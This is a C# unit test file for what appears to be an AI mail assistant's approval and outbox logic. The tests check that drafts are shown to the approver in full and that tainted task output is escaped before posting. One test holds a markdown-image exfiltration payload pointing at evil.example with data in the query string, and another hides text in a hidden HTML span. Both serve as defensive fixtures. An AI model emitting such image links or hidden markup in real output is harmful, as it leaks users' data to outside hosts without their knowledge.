using Istota.Actors.Gate;
using Istota.Actors.Outbox;
using Istota.Actors.Users;
using Istota.Tests.Users;
using Xunit;

namespace Istota.Tests.Outbox;

/// <summary>What a person approves is what they see, and what they are shown fetches nothing.</summary>
public sealed class ShownInFullTests
{
    private readonly UserWorld _world = new();

    [Fact]
    public void S_68_a_draft_cuts_neither_subject_nor_attachments()
    {
        _world.Receive(UserWorld.Stranger);
        _world.Answer(1, AnswerWord.Yes);
        var end = "theveryend";
        var mail = UserWorld.Reply(UserWorld.Stranger, subject: new string('s', 2_000) + end) with
        {
            Attachments = [.. Enumerable.Range(0, 20).Select(i => new ComposedAttachment($"file-{i}", 1))],
        };
        _world.RunTask("done", mail);
        var prompt = _world.State.Questions[2].Prompt;
        Assert.Contains(end, prompt, StringComparison.Ordinal);
        Assert.Contains("19", prompt, StringComparison.Ordinal);
    }

    [Fact]
    public void A_draft_in_HTML_shows_the_HTML_too()
    {
        _world.Receive(UserWorld.Stranger);
        _world.Answer(1, AnswerWord.Yes);
        _world.RunTask("done", UserWorld.Reply(UserWorld.Stranger) with { Html = "<p>hi<span hidden>the secret</span></p>" });
        Assert.Contains("the secret", _world.State.Questions[2].Prompt, StringComparison.Ordinal);
    }

    [Fact]
    public void S_66_a_tainted_result_shows_no_image_and_no_HTML()
    {
        _world.Receive("boss@trusted.example");
        _world.RunTask("see ![x](https://evil.example/?d=1) and <img src=x>, 1 < 2");
        var text = Assert.Single(_world.Events.OfType<UserEvent.Posted>(), p => p.Text.StartsWith("see", StringComparison.Ordinal)).Text;
        Assert.Equal("see !\\[x](https://evil.example/?d=1) and \\<img src=x>, 1 < 2", text);
    }

    [Fact]
    public void The_result_of_what_the_user_asked_stays_as_it_was_written()
    {
        _world.Say("draw");
        _world.RunTask("![x](picture.png)");
        Assert.Contains(_world.Events.OfType<UserEvent.Posted>(), p => p.Text == "![x](picture.png)");
    }
}
